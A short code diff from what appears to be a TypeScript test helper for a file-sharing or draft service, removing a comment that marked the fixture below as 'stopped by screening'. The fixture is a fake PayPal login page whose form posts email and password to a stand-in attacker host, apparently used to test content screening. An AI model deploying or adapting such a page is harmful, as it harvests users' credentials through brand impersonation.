@@ -27,7 +27,6 @@ export const makeDraft = (page: Page, name: string, files: Files, description = 
 export const addFiles = (page: Page, draft: string, files: Files): Promise<string> =>
   send(page, draft, "files", files, {})
 
-/** Stopped by screening. */
 export const phishing = `<!doctype html><title>PayPal</title><h1>PayPal: log in to your account</h1>
 <form action="https://collect.evil.example/next.php" method="post">
   <label>Email <input name="email" type="email"></label> <label>Password <input name="password" type="password"></label>
